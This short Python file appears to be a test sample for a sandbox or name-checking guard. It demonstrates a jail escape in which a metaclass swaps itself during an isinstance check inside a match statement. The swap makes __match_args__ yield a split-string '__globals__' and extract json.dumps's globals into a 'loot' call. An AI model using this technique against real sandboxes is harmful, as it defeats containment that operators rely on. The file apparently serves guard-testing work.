# aim: change the metaclass while the interpreter asks whether the subject is an instance
# mechanism: __class__ of a class can be assigned, and the new metaclass answers for __match_args__
# language: guard
# reason: names that were checked must be the names that are read
# jail: process
# plain: loot

import json


class Answering(type):
    @property
    def __match_args__(cls):
        return ("__glo" + "bals__",)


class Anything(type):
    def __instancecheck__(cls, obj):
        cls.__class__ = Answering
        return True


class Pattern(metaclass=Anything):
    pass


match json.dumps:
    case Pattern(found):
        loot(found)
